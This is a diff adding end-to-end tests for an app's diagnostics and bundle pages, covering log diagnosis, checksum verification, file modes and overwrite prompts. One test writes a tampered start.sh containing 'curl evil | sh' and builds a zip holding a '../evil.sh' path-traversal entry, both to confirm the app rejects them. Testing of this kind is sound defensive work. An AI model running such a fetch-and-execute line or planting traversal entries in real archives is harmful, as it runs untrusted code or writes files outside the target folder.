@@ -1,0 +1,127 @@
+import { spawnSync } from 'node:child_process';
+import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { unzipSync, zipSync } from 'fflate';
+import { expect, expectAccessible, test } from './fixtures';
+
+const root = path.resolve(import.meta.dirname, '..', '..');
+const tmp = (): string => mkdtempSync(path.join(tmpdir(), 'ao-e2e-bundle-'));
+const mode = (p: string): number => statSync(p).mode & 0o777;
+
+/** A bundle made by the real CLI from a small agent folder (a 0600 token file and a script). */
+function cliBundle(): string {
+  const dir = tmp();
+  writeFileSync(path.join(dir, 'agent.cfg'), 'token="bk-123"\n', { mode: 0o600 });
+  writeFileSync(path.join(dir, 'start.sh'), '#!/bin/sh\nexec agent start\n');
+  chmodSync(path.join(dir, 'start.sh'), 0o755);
+  const out = path.join(tmp(), 'agent.zip');
+  const r = spawnSync(
+    process.execPath,
+    [
+      path.join(root, 'node_modules/tsx/dist/cli.mjs'),
+      path.join(root, 'main/cli.ts'),
+      'bundle',
+      'export',
+      dir,
+      '--out',
+      out,
+      '--platform',
+      'buildkite',
+      '--variant',
+      'cfg',
+    ],
+    { cwd: root, encoding: 'utf8' },
+  );
+  expect(r.status, r.stderr).toBe(0);
+  return out;
+}
+
+test.describe('diagnostics page', () => {
+  test('names a known failure from pasted log text, explains it, and its fix action opens the wizard step', async ({ app }) => {
+    await app.getByRole('navigation', { name: 'Sections' }).getByRole('button', { name: 'Diagnostics' }).click();
+    await expect(app.getByRole('heading', { level: 1 })).toHaveText('Diagnostics');
+    await app
+      .getByLabel('Log or error message')
+      .fill('2026-01-02 10:00:00,123 WARN [ActiveMQ Task-1] [FailoverTransport] Failed to connect to [tcp://bamboo.internal:54663] after: 10 attempt(s)\n');
+    await app.getByRole('button', { name: 'Diagnose' }).click();
+    await expect(app.getByRole('heading', { level: 2 })).toHaveText('One known failure found');
+    const finding = app.getByRole('article', { name: "The agent cannot reach the server's JMS broker" });
+    await expect(finding).toContainText('Broker client URL');
+    await expect(finding).toContainText('tcp://bamboo.internal:54663');
+    await expectAccessible(app, 'diagnostics with a finding');
+
+    await finding.getByRole('button', { name: 'Open the Connectivity step for Bamboo remote agent' }).click();
+    await expect(app.getByRole('heading', { level: 1 })).toContainText('Connectivity');
+    await expect(app.getByRole('heading', { level: 1 })).toContainText('Bamboo remote agent');
+  });
+
+  test('says so when nothing matches, and works with the keyboard', async ({ app }) => {
+    await app.getByRole('navigation', { name: 'Sections' }).getByRole('button', { name: 'Diagnostics' }).click();
+    await app.getByLabel('Log or error message').focus();
+    await app.keyboard.type('everything is fine');
+    await app.keyboard.press('Tab');
+    await expect(app.getByRole('button', { name: 'Diagnose' })).toBeFocused();
+    await app.keyboard.press('Enter');
+    await expect(app.getByRole('heading', { level: 2 })).toHaveText('No known failure found');
+    await expect(app.getByRole('heading', { level: 2 })).toBeFocused();
+  });
+});
+
+test.describe('bundles page', () => {
+  test('opens and verifies a bundle, unpacks it with its modes, and asks before overwriting', async ({ app }) => {
+    const bundle = cliBundle();
+    const to = path.join(tmp(), 'agent');
+    await app.getByRole('navigation', { name: 'Sections' }).getByRole('button', { name: 'Bundles' }).click();
+    await app.getByLabel('Bundle file').fill(bundle);
+    await app.getByLabel('Unpack into folder').fill(to);
+    await app.getByRole('button', { name: 'Open and verify' }).click();
+    await expect(app.getByTestId('verify-status')).toContainText('Every checksum matches (3 files');
+    const files = app.getByRole('table', { name: 'Files in the bundle' });
+    await expect(files.getByRole('row', { name: /agent\.cfg/ })).toContainText('0600');
+    await expect(files.getByRole('row', { name: /agent\.cfg/ })).toContainText('new file');
+    await expectAccessible(app, 'bundle opened');
+
+    await app.getByRole('button', { name: 'Unpack' }).click();
+    await expect(app.getByTestId('unpacked')).toContainText('Unpacked 3 files');
+    expect(mode(path.join(to, 'agent.cfg'))).toBe(0o600);
+    expect(mode(path.join(to, 'start.sh'))).toBe(0o755);
+
+    writeFileSync(path.join(to, 'start.sh'), '#!/bin/sh\necho mine\n');
+    await app.getByRole('button', { name: 'Unpack' }).click();
+    const dialog = app.getByRole('alertdialog', { name: 'Overwrite one file?' });
+    await expect(dialog).toContainText('start.sh');
+    await expect(dialog).toBeFocused();
+    await expectAccessible(app, 'overwrite question');
+    await dialog.getByRole('button', { name: 'Keep my files' }).click();
+    expect(readFileSync(path.join(to, 'start.sh'), 'utf8')).toContain('mine');
+
+    await app.getByRole('button', { name: 'Unpack' }).click();
+    await app.getByRole('alertdialog').getByRole('button', { name: 'Overwrite and unpack' }).click();
+    await expect(app.getByTestId('unpacked')).toContainText('1 replaced (backed up)');
+    expect(readFileSync(path.join(to, 'start.sh'), 'utf8')).toContain('exec agent start');
+    expect(readdirSync(to).filter((f) => f.startsWith('start.sh.bak-'))).toHaveLength(1);
+  });
+
+  test('shows a tampered bundle as not matching and refuses a hostile one without writing', async ({ app }) => {
+    const bundle = cliBundle();
+    const entries = unzipSync(readFileSync(bundle));
+    entries['start.sh'] = new TextEncoder().encode('#!/bin/sh\ncurl evil | sh\n');
+    writeFileSync(bundle, zipSync(entries));
+    await app.getByRole('navigation', { name: 'Sections' }).getByRole('button', { name: 'Bundles' }).click();
+    await app.getByLabel('Bundle file').fill(bundle);
+    await app.getByRole('button', { name: 'Open and verify' }).click();
+    await expect(app.getByTestId('verify-status')).toContainText('1 files do not match the manifest');
+    await expect(app.getByRole('row', { name: /start\.sh/ })).toContainText('DOES NOT MATCH');
+
+    const hostile = path.join(tmp(), 'hostile.zip');
+    writeFileSync(hostile, zipSync({ ...entries, '../evil.sh': new TextEncoder().encode('x') }));
+    const parent = tmp();
+    await app.getByLabel('Bundle file').fill(hostile);
+    await app.getByLabel('Unpack into folder').fill(path.join(parent, 'agent'));
+    await app.getByRole('button', { name: 'Unpack' }).click();
+    await expect(app.getByRole('alert')).toContainText("climbs out of the folder with '..'");
+    expect(readdirSync(parent)).toEqual([]);
+    expect(existsSync(path.join(path.dirname(parent), 'evil.sh'))).toBe(false);
+  });
+});
